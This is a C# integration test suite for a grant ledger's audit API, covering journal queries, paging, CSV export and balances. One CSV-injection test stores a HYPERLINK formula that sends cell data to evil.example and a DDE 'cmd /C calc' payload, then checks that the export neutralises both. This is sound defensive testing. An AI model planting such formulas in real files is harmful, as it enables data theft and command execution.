using System.Net;
using System.Text.Json.Nodes;
using GrantLedger.Web.Tests.Support;

namespace GrantLedger.Web.Tests.Audit;

/// <summary>
/// The auditor's queries on a ledger with known answers: funded and allocated on 1 September; then,
/// after the moment "then", a virement dated 15 September, its reversal dated 20 October, and a
/// back-dated allocation dated 10 September. Eight transfers in all.
/// </summary>
public sealed class AuditQueryTests(DatabaseFixture db) : DatabaseTest(db)
{
    private sealed record Ledger(Scenario S, ApiClient Auditor, DateTimeOffset Then, long Funding, long Allocation, long Virement, long Reversal,
        long BackDated)
    {
        public string Journal(string query) => $"/api/v1/audit/journal?programmeId={S.ProgrammeId}{query}";
    }

    private async Task<Ledger> LedgerAsync()
    {
        var s = await Scenario.CreateAsync(Db, 2, 2);
        var funding = (await s.Root.PostAsync($"{s.Year}/funding", new { amount = "1000.00", reference = "grant", valueDate = "2026-09-01" }))
            .Expect(HttpStatusCode.Created).Json["entryId"]!.GetValue<long>();
        var allocation = (await s.Root.PostAsync($"{s.Year}/allocations", new
        {
            valueDate = "2026-09-01", each = new { categoryId = s.Categories["staff-cover"], amount = "100.00", allSchools = true },
        })).Expect(HttpStatusCode.Created).Json["entryId"]!.GetValue<long>();
        await Task.Delay(20);
        var then = DateTimeOffset.UtcNow;
        await Task.Delay(20);
        var virement = (await s.Root.PostAsync($"{s.Year}/virements", new
        {
            from = new { schoolId = s.Schools[0].Id, categoryId = s.Categories["staff-cover"] },
            to = new { schoolId = s.Schools[0].Id, categoryId = s.Categories["action-plan"] },
            amount = "25.00", reason = "plan", valueDate = "2026-09-15",
        })).Expect(HttpStatusCode.Created).Json["entryId"]!.GetValue<long>();
        var reversal = (await s.Root.PostAsync($"/api/v1/journal-entries/{virement}/reversal", new { reason = "not agreed", valueDate = "2026-10-20" }))
            .Expect(HttpStatusCode.Created).Id;
        var backDated = (await s.Root.PostAsync($"{s.Year}/allocations", new
        {
            valueDate = "2026-09-10", lines = new[] { new { schoolId = s.Schools[2].Id, categoryId = s.Categories["action-plan"], amount = "40.00" } },
        })).Expect(HttpStatusCode.Created).Json["entryId"]!.GetValue<long>();
        return new Ledger(s, await s.AuditorAsync(Db), then, funding, allocation, virement, reversal, backDated);
    }

    private static long[] Entries(JsonNode page) => page["items"]!.AsArray().Select(l => l!["entryId"]!.GetValue<long>()).ToArray();

    private static string[] Amounts(JsonNode page) => page["items"]!.AsArray().Select(l => l!["amount"]!.GetValue<string>()).ToArray();

    [Fact]
    public async Task Journal_FiltersByAccountSchoolAreaUserDatesAndAmounts_WithTheKnownAnswers()
    {
        var l = await LedgerAsync();
        var a = l.Auditor;
        var all = (await a.GetAsync(l.Journal(""))).Expect(HttpStatusCode.OK).Json;
        Assert.Equal([l.Funding, l.Allocation, l.Allocation, l.Allocation, l.Allocation, l.BackDated, l.Virement, l.Reversal], Entries(all));
        Assert.Null(all["nextCursor"]);
        var reversalLine = all["items"]!.AsArray()[^1]!;
        Assert.Equal(l.Virement, reversalLine["reversesEntryId"]!.GetValue<long>());
        Assert.Equal("reversal", reversalLine["causeType"]!.GetValue<string>());
        Assert.Equal(l.S.Root.UserName, reversalLine["actor"]!.GetValue<string>());

        var school0 = l.S.SchoolAccount(0, "staff-cover", "available")[..^":staff-cover:available".Length];
        var prefix = (await a.GetAsync(l.Journal($"&accountPrefix={Uri.EscapeDataString(school0)}"))).Expect(HttpStatusCode.OK).Json;
        Assert.Equal([l.Allocation, l.Virement, l.Reversal], Entries(prefix));
        Assert.Equal(["100.00", "25.00", "25.00"], Amounts(prefix));

        var account = (await a.GetAsync(l.Journal($"&account={Uri.EscapeDataString(l.S.SchoolAccount(0, "action-plan", "available"))}"))).Expect(HttpStatusCode.OK).Json;
        Assert.Equal([l.Virement, l.Reversal], Entries(account));

        Assert.Equal([l.Allocation, l.BackDated], Entries((await a.GetAsync(l.Journal($"&schoolId={l.S.Schools[2].Id}"))).Expect(HttpStatusCode.OK).Json));
        Assert.Equal([l.Allocation, l.Allocation, l.BackDated], Entries((await a.GetAsync(l.Journal($"&areaId={l.S.AreaIds[1]}"))).Expect(HttpStatusCode.OK).Json));
        Assert.Equal([l.BackDated, l.Virement], Entries((await a.GetAsync(l.Journal("&from=2026-09-10&to=2026-09-30"))).Expect(HttpStatusCode.OK).Json));
        var amounts = (await a.GetAsync(l.Journal("&amountMin=25.00&amountMax=40"))).Expect(HttpStatusCode.OK).Json;
        Assert.Equal([l.BackDated, l.Virement, l.Reversal], Entries(amounts));
        Assert.Equal(8, Entries((await a.GetAsync(l.Journal($"&userId={l.S.Root.UserId}"))).Expect(HttpStatusCode.OK).Json).Length);
        Assert.Empty(Entries((await a.GetAsync(l.Journal($"&userId={a.UserId}"))).Expect(HttpStatusCode.OK).Json));
        Assert.Empty(Entries((await a.GetAsync(l.Journal("&unit=MIN"))).Expect(HttpStatusCode.OK).Json));
        var recordedThen = (await a.GetAsync(l.Journal($"&recordedBy={Uri.EscapeDataString(l.Then.ToString("O"))}"))).Expect(HttpStatusCode.OK).Json;
        Assert.Equal([l.Funding, l.Allocation, l.Allocation, l.Allocation, l.Allocation], Entries(recordedThen));

        (await a.GetAsync("/api/v1/audit/journal")).ExpectProblem(HttpStatusCode.UnprocessableEntity, "programmeId");
        (await a.GetAsync(l.Journal("&amountMin=1.234"))).ExpectProblem(HttpStatusCode.UnprocessableEntity, "amountMin");
        (await a.GetAsync(l.Journal("&cursor=nonsense"))).ExpectProblem(HttpStatusCode.UnprocessableEntity, "cursor");
        (await a.GetAsync(l.Journal("&from=2026-10-01&to=2026-09-01"))).ExpectProblem(HttpStatusCode.UnprocessableEntity, "to");
        (await a.GetAsync(l.Journal("&amountMin=10&amountMax=1"))).ExpectProblem(HttpStatusCode.UnprocessableEntity, "amountMax"); // it answered no rows
        (await a.GetAsync(l.Journal("&format=xml"))).ExpectProblem(HttpStatusCode.UnprocessableEntity, "format"); // it answered JSON
        (await a.GetAsync(l.Journal("&format=json"))).Expect(HttpStatusCode.OK);
        var school = await l.S.SchoolUserAsync(Db, 0);
        (await school.GetAsync(l.Journal(""))).ExpectProblem(HttpStatusCode.Forbidden);
    }

    [Fact]
    public async Task Journal_OfAProgrammeThatDoesNotExist_Is404_AsTheProgrammesOtherReadsAre()
    {
        var s = await Scenario.CreateAsync(Db, 1, 1);
        var auditor = await s.AuditorAsync(Db);
        (await auditor.GetAsync("/api/v1/audit/journal?programmeId=999999")).ExpectProblem(HttpStatusCode.NotFound);
        (await auditor.GetAsync("/api/v1/audit/journal?programmeId=999999&format=csv")).ExpectProblem(HttpStatusCode.NotFound);
        (await auditor.GetAsync("/api/v1/programmes/999999/accounts")).ExpectProblem(HttpStatusCode.NotFound);
        (await auditor.GetAsync("/api/v1/programmes/999999/payment-runs")).ExpectProblem(HttpStatusCode.NotFound);
    }

    [Fact]
    public async Task ClaimsAndPaymentRuns_ByAStateThatIsNone_Are422NamingStateAndListingTheStates()
    {
        var s = await Scenario.CreateAsync(Db, 1, 1);
        var auditor = await s.AuditorAsync(Db);
        var claims = (await auditor.GetAsync("/api/v1/claims?state=bogus")).ExpectProblem(HttpStatusCode.UnprocessableEntity, "state").Body;
        Assert.Contains("under-review", claims);
        Assert.Contains("in-payment-run", claims);
        var runs = (await auditor.GetAsync($"/api/v1/programmes/{s.ProgrammeId}/payment-runs?state=bogus")).ExpectProblem(HttpStatusCode.UnprocessableEntity, "state").Body;
        Assert.Contains("exported", runs);
        Assert.Contains("cancelled", runs);
        (await auditor.GetAsync("/api/v1/claims?state=under-review")).Expect(HttpStatusCode.OK);
        (await auditor.GetAsync($"/api/v1/programmes/{s.ProgrammeId}/payment-runs?state=paid")).Expect(HttpStatusCode.OK);
    }

    [Fact]
    public async Task Journal_PagesWithACursor_InAStableOrder_NeverRepeatingOrSkipping()
    {
        var l = await LedgerAsync();
        var seen = new List<long>();
        string? cursor = null;
        var pages = 0;
        do
        {
            var page = (await l.Auditor.GetAsync(l.Journal("&limit=3" + (cursor is null ? "" : $"&cursor={cursor}")))).Expect(HttpStatusCode.OK).Json;
            seen.AddRange(page["items"]!.AsArray().Select(x => x!["transferId"]!.GetValue<long>()));
            cursor = page["nextCursor"]?.GetValue<string>();
            pages++;
            // a line recorded meanwhile, dated later, is found at the end; it does not shift the pages already read
            if (pages == 1)
                (await l.S.Root.PostAsync($"{l.S.Year}/allocations", new
                {
                    valueDate = "2026-11-01", lines = new[] { new { schoolId = l.S.Schools[1].Id, categoryId = l.S.Categories["action-plan"], amount = "1.00" } },
                })).Expect(HttpStatusCode.Created);
        } while (cursor is not null);
        Assert.Equal(3, pages);
        var all = (await l.Auditor.GetAsync(l.Journal("&limit=1000"))).Expect(HttpStatusCode.OK).Json["items"]!.AsArray()
            .Select(x => x!["transferId"]!.GetValue<long>()).ToList();
        Assert.Equal(9, all.Count);
        Assert.Equal(all, seen);
    }

    /// <summary>
    /// Two entries recorded at once, the later-numbered one's transfer written first (a second instance, or a script, in
    /// another transaction): the search lists each entry's lines together, in entry order within the value date, as the
    /// exports' journal does, and pages through them by the same order.
    /// </summary>
    [Fact]
    public async Task Journal_ListsAnEntrysLinesTogether_InEntryOrder_AsTheExportsJournalDoes()
    {
        var l = await LedgerAsync();
        var funding = await Db.ScalarAsync("SELECT id FROM account WHERE code = $1 AND unit = 'GBP'", $"{l.S.Code}:{l.S.YearCode}:funding");
        var unallocated = await Db.ScalarAsync("SELECT id FROM account WHERE code = $1 AND unit = 'GBP'", $"{l.S.Code}:{l.S.YearCode}:unallocated");
        await using var first = await Db.DataSource.OpenConnectionAsync();
        await using var firstTx = await first.BeginTransactionAsync();
        long firstEntry;
        await using (var cmd = new Npgsql.NpgsqlCommand($"""
            INSERT INTO journal_entry (programme_id, value_date, description, cause_type) VALUES ({l.S.ProgrammeId}, '2026-10-05', 'first', 'funding')
            RETURNING id
            """, first, firstTx))
            firstEntry = (long)(await cmd.ExecuteScalarAsync())!;
        var secondEntry = await Db.ScalarAsync($"""
            WITH e AS (INSERT INTO journal_entry (programme_id, value_date, description, cause_type) VALUES ({l.S.ProgrammeId}, '2026-10-05', 'second', 'funding')
                       RETURNING id, programme_id, value_date, recorded_at),
                 t AS (INSERT INTO transfer (entry_id, programme_id, unit, debit_account_id, credit_account_id, amount, kind, value_date, recorded_at)
                       SELECT id, programme_id, 'GBP', {funding}, {unallocated}, 200, 'posted', value_date, recorded_at FROM e)
            SELECT id FROM e
            """);
        await using (var cmd = new Npgsql.NpgsqlCommand($"""
            INSERT INTO transfer (entry_id, programme_id, unit, debit_account_id, credit_account_id, amount, kind, value_date, recorded_at)
            SELECT id, programme_id, 'GBP', {funding}, {unallocated}, 100, 'posted', value_date, recorded_at FROM journal_entry WHERE id = {firstEntry}
            """, first, firstTx))
            await cmd.ExecuteNonQueryAsync();
        await firstTx.CommitAsync();
        Assert.True(secondEntry > firstEntry);

        var day = (await l.Auditor.GetAsync(l.Journal("&from=2026-10-05&to=2026-10-05"))).Expect(HttpStatusCode.OK).Json["items"]!.AsArray();
        Assert.Equal([firstEntry, secondEntry], day.Select(x => x!["entryId"]!.GetValue<long>()));
        Assert.Equal(["1.00", "2.00"], day.Select(x => x!["amount"]!.GetValue<string>()));
        Assert.True(day[0]!["transferId"]!.GetValue<long>() > day[1]!["transferId"]!.GetValue<long>()); // the order is the entries', not the transfers' numbers

        // one line a page: each of the day's lines once, in the same order
        var paged = new List<long>();
        string? cursor = null;
        do
        {
            var page = (await l.Auditor.GetAsync(l.Journal("&from=2026-10-05&to=2026-10-05&limit=1" + (cursor is null ? "" : $"&cursor={cursor}"))))
                .Expect(HttpStatusCode.OK).Json;
            paged.AddRange(page["items"]!.AsArray().Select(x => x!["entryId"]!.GetValue<long>()));
            cursor = page["nextCursor"]?.GetValue<string>();
        } while (cursor is not null);
        Assert.Equal([firstEntry, secondEntry], paged);
    }

    /// <summary>
    /// A cursor given before the order named the entry (the value date and the transfer, as the pages and scripts held
    /// them across the change) reads on after that transfer's line, neither repeating nor skipping one.
    /// </summary>
    [Fact]
    public async Task Journal_ACursorOfTheEarlierForm_ReadsOnAfterItsLine()
    {
        var l = await LedgerAsync();
        var all = (await l.Auditor.GetAsync(l.Journal(""))).Expect(HttpStatusCode.OK).Json["items"]!.AsArray();
        var third = all[2]!;
        var earlier = Convert.ToBase64String(System.Text.Encoding.ASCII.GetBytes(
            $"{third["valueDate"]!.GetValue<string>()}/{third["transferId"]!.GetValue<long>()}")).TrimEnd('=').Replace('+', '-').Replace('/', '_');
        var rest = (await l.Auditor.GetAsync(l.Journal($"&cursor={earlier}"))).Expect(HttpStatusCode.OK).Json["items"]!.AsArray();
        Assert.Equal(all.Skip(3).Select(x => x!["transferId"]!.GetValue<long>()), rest.Select(x => x!["transferId"]!.GetValue<long>()));
        var malformed = Convert.ToBase64String(System.Text.Encoding.ASCII.GetBytes("2026-09-01/1/2/3"));
        (await l.Auditor.GetAsync(l.Journal($"&cursor={malformed}"))).ExpectProblem(HttpStatusCode.UnprocessableEntity, "cursor");
    }

    [Fact]
    public async Task Journal_AsCsv_StartsWithTheQuery_ThenEveryMatchingLine()
    {
        var l = await LedgerAsync();
        var school0 = l.S.SchoolAccount(0, "staff-cover", "available")[..^":staff-cover:available".Length];
        var csv = (await l.Auditor.GetAsync(l.Journal($"&accountPrefix={Uri.EscapeDataString(school0)}&limit=1&format=csv"))).Expect(HttpStatusCode.OK);
        Assert.Equal("text/csv", csv.ContentType);
        var lines = csv.Body.Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
        Assert.Equal($"# query: GET /api/v1/audit/journal?programmeId={l.S.ProgrammeId}&accountPrefix={school0}&limit=1&format=csv", lines[0]);
        Assert.Contains($"# accountPrefix: {school0}", lines);
        Assert.Contains(lines, x => x.StartsWith("# run by: auditor-tp (auditor)", StringComparison.Ordinal));
        var data = lines.SkipWhile(x => x.StartsWith('#')).ToList();
        Assert.StartsWith("transfer_id,entry_id,value_date,recorded_at,description,", data[0]);
        Assert.Equal(4, data.Count); // the header and all three lines: CSV is not paged
        Assert.EndsWith(",100.00", data[1]);
        Assert.Contains($",{l.Reversal},2026-10-20,", data[3]);

        var accept = new HttpRequestMessage(HttpMethod.Get, l.Journal(""));
        accept.Headers.Accept.ParseAdd("text/csv");
        using var response = await l.Auditor.Http.SendAsync(accept);
        Assert.Equal("text/csv", response.Content.Headers.ContentType?.MediaType);
        (await l.Auditor.GetAsync("/api/v1/audit/journal?format=csv")).ExpectProblem(HttpStatusCode.UnprocessableEntity, "programmeId");
    }

    /// <summary>
    /// CSV injection: an allocation's description is typed by a person and becomes its entry's, so it reaches the
    /// auditor's CSV. Opened in a spreadsheet, the file runs nothing: a description a spreadsheet would take for a
    /// formula has an apostrophe before it, and a line break sent in the query cannot start a line of its own among
    /// the comment lines.
    /// </summary>
    [Fact]
    public async Task Journal_AsCsv_RunsNothingInASpreadsheet_WhateverADescriptionOrTheQuerySays()
    {
        var l = await LedgerAsync();
        const string link = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open the evidence\")", dde = "@SUM(1+1)*cmd|' /C calc'!A0";
        foreach (var description in new[] { link, dde })
            (await l.S.Root.PostAsync($"{l.S.Year}/allocations", new
            {
                valueDate = "2026-09-20", description,
                lines = new[] { new { schoolId = l.S.Schools[3].Id, categoryId = l.S.Categories["action-plan"], amount = "1.00" } },
            })).Expect(HttpStatusCode.Created);

        var json = (await l.Auditor.GetAsync(l.Journal("&limit=1000"))).Expect(HttpStatusCode.OK).Json["items"]!.AsArray();
        Assert.Contains(json, x => x!["description"]!.GetValue<string>() == link); // stored and answered as typed

        var csv = (await l.Auditor.GetAsync(l.Journal("&format=csv"))).Expect(HttpStatusCode.OK).Body;
        Assert.Contains(",\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Open the evidence\"\")\",", csv);
        Assert.Contains(",'@SUM(1+1)*cmd|' /C calc'!A0,", csv);

        var lines = (await l.Auditor.GetAsync(l.Journal("&format=csv&accountPrefix=tp%0D%0A=1%2B1%0A-2%2B3"))).Expect(HttpStatusCode.OK).Body
            .Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
        Assert.Equal("transfer_id,", lines[^1][.."transfer_id,".Length]); // no account has that prefix: the header ends the file
        Assert.All(lines[..^1], x => Assert.StartsWith("# ", x));
        Assert.Contains("# accountPrefix: tp =1+1 -2+3", lines);
    }

    /// <summary>
    /// A moment is given in UTC marked Z, as the README says of the API and the exports, in a JSON answer as in the same
    /// query's CSV: a journal line's recordedAt, an event's occurredAt and a programme's createdAt read
    /// "2026-12-05T01:32:14.440116+00:00" in JSON, where the CSV gave "2026-12-05T01:32:14.4401160Z"; now the CSV gives the
    /// JSON's very text, an event's and a claim's history's too.
    /// </summary>
    [Fact]
    public async Task AMoment_IsInUtcMarkedZ_InTheJsonAsInTheCsv()
    {
        var l = await LedgerAsync();
        var recordedAt = (await l.Auditor.GetAsync(l.Journal("&limit=1"))).Expect(HttpStatusCode.OK).Json["items"]![0]!["recordedAt"]!.GetValue<string>();
        var csv = (await l.Auditor.GetAsync(l.Journal("&limit=1&format=csv"))).Expect(HttpStatusCode.OK).Body;
        Assert.Matches(@"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?Z$", recordedAt);
        Assert.Contains($",{recordedAt},", csv);
        var occurredAt = (await l.Auditor.GetAsync("/api/v1/audit/events?limit=1")).Expect(HttpStatusCode.OK).Json["items"]![0]!["occurredAt"]!.GetValue<string>();
        Assert.EndsWith("Z", occurredAt);
        Assert.Contains($",{occurredAt},", (await l.Auditor.GetAsync("/api/v1/audit/events?limit=1&format=csv")).Expect(HttpStatusCode.OK).Body);
        var createdAt = (await l.Auditor.GetAsync($"/api/v1/programmes/{l.S.ProgrammeId}")).Expect(HttpStatusCode.OK).Json["createdAt"]!.GetValue<string>();
        Assert.EndsWith("Z", createdAt);
    }

    [Fact]
    public async Task Balances_AsOfADate_AsTheLedgerSaidThen_AndAsWeNowKnow()
    {
        var l = await LedgerAsync();
        string Url(string q) => $"/api/v1/audit/programmes/{l.S.ProgrammeId}/balances?{q}";
        async Task<Dictionary<string, string>> BalancesAsync(string q) =>
            (await l.Auditor.GetAsync(Url(q))).Expect(HttpStatusCode.OK).Json["accounts"]!.AsArray()
            .ToDictionary(x => x!["code"]!.GetValue<string>(), x => x!["balance"]!.GetValue<string>());
        var staff0 = l.S.SchoolAccount(0, "staff-cover", "available");
        var plan0 = l.S.SchoolAccount(0, "action-plan", "available");
        var plan2 = l.S.SchoolAccount(2, "action-plan", "available");

        var said = await BalancesAsync($"asOf=2026-09-30&recordedBy={Uri.EscapeDataString(l.Then.ToString("O"))}");
        Assert.Equal("100.00", said[staff0]);
        Assert.False(said.ContainsKey(plan0));
        Assert.False(said.ContainsKey(plan2));

        var known = await BalancesAsync("asOf=2026-09-30");
        Assert.Equal("75.00", known[staff0]);
        Assert.Equal("25.00", known[plan0]);
        Assert.Equal("40.00", known[plan2]);

        var october = await BalancesAsync("asOf=2026-10-31");
        Assert.Equal("100.00", october[staff0]);
        Assert.Equal("0.00", october[plan0]);
        Assert.Empty(await BalancesAsync("asOf=2026-08-31"));

        var trialThen = (await l.Auditor.GetAsync($"/api/v1/audit/programmes/{l.S.ProgrammeId}/trial-balance?asOf=2026-09-30&recordedBy={Uri.EscapeDataString(l.Then.ToString("O"))}"))
            .Expect(HttpStatusCode.OK).Json;
        var trialNow = (await l.Auditor.GetAsync($"/api/v1/audit/programmes/{l.S.ProgrammeId}/trial-balance?asOf=2026-09-30")).Expect(HttpStatusCode.OK).Json;
        string Unallocated(JsonNode tb) => tb["rows"]!.AsArray().Single(r => r!["account"]!.GetValue<string>() == "tp:2026-27:unallocated")!["balance"]!.GetValue<string>();
        Assert.Equal("-600.00", Unallocated(trialThen));
        var inLondon = Uri.EscapeDataString(l.Then.ToOffset(TimeSpan.FromHours(1)).ToString("O")); // the same moment, in British Summer Time
        Assert.Equal("-600.00", Unallocated((await l.Auditor.GetAsync($"/api/v1/programmes/{l.S.ProgrammeId}/trial-balance?asOf=2026-09-30&recordedBy={inLondon}"))
            .Expect(HttpStatusCode.OK).Json));
        Assert.Equal("100.00", (await BalancesAsync($"asOf=2026-09-30&recordedBy={inLondon}"))[staff0]);
        Assert.Equal("-560.00", Unallocated(trialNow));
        Assert.All(trialNow["totals"]!.AsArray(), t => Assert.True(t!["balanced"]!.GetValue<bool>()));

        var csv = (await l.Auditor.GetAsync(Url("asOf=2026-09-30&format=csv"))).Expect(HttpStatusCode.OK).Body.Split("\r\n");
        Assert.StartsWith("# query: GET ", csv[0]);
        Assert.Contains($"{plan2},GBP,credit,0.00,40.00,40.00,0.00,0.00", csv.Single(x => x.Contains(plan2)));
        var tbCsv = (await l.Auditor.GetAsync($"/api/v1/audit/programmes/{l.S.ProgrammeId}/trial-balance?asOf=2026-09-30&format=csv")).Expect(HttpStatusCode.OK).Body;
        Assert.Contains("tp:2026-27:unallocated,GBP,", tbCsv);
        Assert.Contains("\r\ntotal,GBP,", tbCsv);
    }

    /// <summary>
    /// A national programme's balances are tens of thousands of accounts: read a page at a time, the pages are the whole
    /// list's accounts in its order (unit, then code), each once; the CSV is every account from the cursor on.
    /// </summary>
    [Fact]
    public async Task Balances_ReadAPageAtATime_AreTheWholeListsAccounts_EachOnce()
    {
        var l = await LedgerAsync();
        // pages are read by their own plan (each account's transfers), the whole list by the programme's: the same answers,
        // now and as the ledger said at a moment before the last entries (accounts that had not moved then left out)
        foreach (var asOf in new[] { "asOf=2026-09-30", $"asOf=2026-09-30&recordedBy={Uri.EscapeDataString(l.Then.ToString("O"))}" })
        {
            var wholeThen = (await l.Auditor.GetAsync($"/api/v1/audit/programmes/{l.S.ProgrammeId}/balances?{asOf}")).Expect(HttpStatusCode.OK).Json;
            var pagedThen = new List<string>();
            string? cursor = null;
            do
            {
                var page = (await l.Auditor.GetAsync($"/api/v1/audit/programmes/{l.S.ProgrammeId}/balances?{asOf}&limit=2" + (cursor is null ? "" : $"&after={cursor}")))
                    .Expect(HttpStatusCode.OK).Json;
                pagedThen.AddRange(page["accounts"]!.AsArray().Select(a => a!.ToJsonString()));
                cursor = page["nextCursor"]?.GetValue<long>().ToString();
            } while (cursor is not null);
            Assert.Equal(wholeThen["accounts"]!.AsArray().Select(a => a!.ToJsonString()), pagedThen);
        }

        string Url(string q) => $"/api/v1/audit/programmes/{l.S.ProgrammeId}/balances?asOf=2026-10-31&{q}";
        var whole = (await l.Auditor.GetAsync(Url(""))).Expect(HttpStatusCode.OK).Json;
        Assert.True(whole.AsObject().ContainsKey("nextCursor"));
        Assert.Null(whole["nextCursor"]);
        var all = whole["accounts"]!.AsArray().Select(a => a!.ToJsonString()).ToList();
        Assert.True(all.Count > 6, $"{all.Count} accounts");

        var paged = new List<string>();
        var pages = 0;
        string? after = null;
        do
        {
            var page = (await l.Auditor.GetAsync(Url("limit=3" + (after is null ? "" : $"&after={after}")))).Expect(HttpStatusCode.OK).Json;
            var accounts = page["accounts"]!.AsArray();
            Assert.InRange(accounts.Count, 1, 3);
            paged.AddRange(accounts.Select(a => a!.ToJsonString()));
            after = page["nextCursor"]?.GetValue<long>().ToString();
            if (after is not null) Assert.Equal(accounts[^1]!["accountId"]!.GetValue<long>().ToString(), after);
            pages++;
        } while (after is not null);
        Assert.Equal(all, paged);
        Assert.Equal((all.Count + 2) / 3, pages);

        // the CSV from a cursor: every account after it, whatever the limit
        var third = (await l.Auditor.GetAsync(Url("limit=3"))).Expect(HttpStatusCode.OK).Json["nextCursor"]!.GetValue<long>();
        var csv = (await l.Auditor.GetAsync(Url($"after={third}&limit=1&format=csv"))).Expect(HttpStatusCode.OK).Body
            .Split("\r\n", StringSplitOptions.RemoveEmptyEntries).Where(x => !x.StartsWith('#')).Skip(1).ToList();
        Assert.Equal(all.Count - 3, csv.Count);
        Assert.StartsWith(whole["accounts"]![3]!["accountId"]!.GetValue<long>() + ",", csv[0]);

        // a cursor that is not an account of this programme, and a page size out of bounds
        var other = await Scenario.CreateAsync(Db, 1, 1, "op");
        await other.FundAsync("10.00");
        var elsewhere = await Db.ScalarAsync("SELECT min(id) FROM account WHERE programme_id = $1", other.ProgrammeId);
        foreach (var cursor in new[] { elsewhere, 0, -1, long.MaxValue })
            (await l.Auditor.GetAsync(Url($"limit=3&after={cursor}"))).ExpectProblem(HttpStatusCode.UnprocessableEntity, "after");
        (await l.Auditor.GetAsync(Url("limit=0"))).ExpectProblem(HttpStatusCode.UnprocessableEntity, "limit");
        (await l.Auditor.GetAsync(Url("limit=5001"))).ExpectProblem(HttpStatusCode.UnprocessableEntity, "limit");
    }

    [Fact]
    public async Task Statement_HasARunningBalance_InJsonAndCsv()
    {
        var l = await LedgerAsync();
        var id = (await l.S.AccountAsync(l.S.SchoolAccount(0, "staff-cover", "available")))["id"]!.GetValue<long>();
        var statement = (await l.Auditor.GetAsync($"/api/v1/audit/accounts/{id}/statement")).Expect(HttpStatusCode.OK).Json;
        Assert.Equal(["100.00", "75.00", "100.00"], statement["lines"]!.AsArray().Select(x => x!["runningBalance"]!.GetValue<string>()).ToArray());
        var csv = (await l.Auditor.GetAsync($"/api/v1/audit/accounts/{id}/statement?from=2026-09-10&format=csv")).Expect(HttpStatusCode.OK).Body
            .Split("\r\n", StringSplitOptions.RemoveEmptyEntries).SkipWhile(x => x.StartsWith('#')).ToList();
        Assert.Equal(4, csv.Count); // header, opening, two lines
        Assert.EndsWith(",100.00", csv[1]);
        Assert.EndsWith(",75.00", csv[2]);
        Assert.EndsWith(",100.00", csv[3]);
    }
}
